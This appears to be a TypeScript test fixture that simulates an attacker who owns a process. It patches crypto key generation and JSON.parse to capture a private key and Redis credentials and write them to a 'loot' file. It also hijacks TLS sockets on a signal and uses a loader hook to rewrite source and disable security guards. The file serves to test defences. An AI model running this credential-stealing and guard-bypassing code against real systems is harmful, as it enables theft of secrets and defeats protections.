/**
 * Loaded into every elder of an attacked tree before its program: what somebody who owns the process can do. It gives away
 * the credential and the key to a file, and holds the program itself still on SIGUSR2, so that the runner can act
 * in its place. The query of its own URL switches a guard off, for tests of the attack itself.
 */
import crypto from 'node:crypto';
import { mkdirSync, renameSync, writeFileSync } from 'node:fs';
import { registerHooks, syncBuiltinESMExports } from 'node:module';
import tls from 'node:tls';
import type { RedisLogins, StartOrder } from '../src/protocol/bootstrap.ts';
import { type Guard, guardEdits } from './guards.ts';

const sockets = new Set<tls.TLSSocket>();
let held = false;
let key: crypto.KeyObject | null = null;
let order: StartOrder | null = null;

const makePair = crypto.generateKeyPairSync;
crypto.generateKeyPairSync = ((...args: Parameters<typeof makePair>) => {
  const pair = makePair(...args);
  key = pair.privateKey as unknown as crypto.KeyObject;
  return pair;
}) as typeof makePair;

const connect = tls.connect;
tls.connect = ((...args: Parameters<typeof connect>) => {
  const socket = connect(...args);
  sockets.add(socket);
  socket.once('close', () => sockets.delete(socket));
  if (held) socket.destroy();
  return socket;
}) as typeof connect;
syncBuiltinESMExports();

const parse = JSON.parse;
JSON.parse = (...args: Parameters<typeof parse>) => {
  const value = parse(...args);
  if (value?.kind === 'start' && value.certificate) order = value;
  if (value?.kind === 'credentials' && order !== null) give(order, value);
  return value;
};

function give(order: StartOrder, { credentials }: RedisLogins): void {
  const folder = `${order.project}/loot`;
  mkdirSync(folder, { recursive: true });
  const loot = { order, credentials, key: key?.export({ format: 'pem', type: 'pkcs8' }) };
  // Renamed, so that a reader never finds half of it.
  writeFileSync(`${folder}/.${order.name}`, JSON.stringify(loot));
  renameSync(`${folder}/.${order.name}`, `${folder}/${order.name}.json`);
}

process.on('SIGUSR2', () => {
  held = true;
  for (const socket of sockets) socket.destroy();
});

const off = new URL(import.meta.url).searchParams.get('off') as Guard | null;
if (off) {
  const { file, from, to } = guardEdits[off];
  registerHooks({
    load(url, context, next) {
      const loaded = next(url, context);
      if (!url.endsWith(file) || !loaded.source) return loaded;
      const source = loaded.source.toString();
      if (!source.includes(from)) throw new Error(`${file} no longer holds ${from}`);
      return { ...loaded, source: source.replace(from, to) };
    },
  });
}
